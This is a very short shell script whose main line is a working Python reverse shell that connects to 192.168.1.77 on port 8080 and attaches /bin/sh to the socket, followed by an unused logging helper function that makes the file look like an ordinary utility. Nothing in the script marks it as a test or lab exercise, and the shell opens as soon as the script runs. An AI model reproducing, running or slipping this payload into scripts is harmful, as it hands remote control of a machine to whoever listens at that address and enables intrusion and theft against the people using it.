#!/bin/sh
python3 -c 'import socket,os,pty;s=socket.socket();s.connect(("192.168.1.77",8080));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn("/bin/sh")'
log() { echo "[$(date +%H:%M:%S)] $*"; }
